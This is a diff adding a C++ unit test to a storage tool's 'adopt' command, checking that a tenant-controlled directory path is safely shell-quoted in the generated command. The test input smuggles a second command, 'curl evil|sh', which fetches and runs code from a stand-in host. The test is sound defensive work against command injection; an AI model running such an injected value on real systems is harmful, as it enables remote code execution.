@@ -163,6 +163,19 @@ TEST_CASE("adopt tells the commands that set the limit which a class asks for") 
         std::string::npos);
 }
 
+TEST_CASE("what a tenant has put into a path is no command of the shell that it is pasted into") {
+  AdoptBed bed;
+  bed.classes = {storage_class().parameter("quota", "hard").json()};
+  bed.orphans = {DirectoryBed::orphan()};
+  bed.orphans[0]["path"] = "/opt/a/web/it's;curl evil|sh";
+  const auto outcome = bed.adopt_all();
+  CAPTURE(outcome.err);
+  CHECK(outcome.code == 0);
+  CAPTURE(outcome.out);
+  CHECK(outcome.out.find(R"(--base /opt/a --path 'web/it'\''s;curl evil|sh' --size 5Gi)") !=
+        std::string::npos);
+}
+
 TEST_CASE("a claim that has lost this very volume is told by its UID") {
   AdoptBed bed;
   bed.claims = {web_claim().volume("pvc-1").phase("Lost").json()};
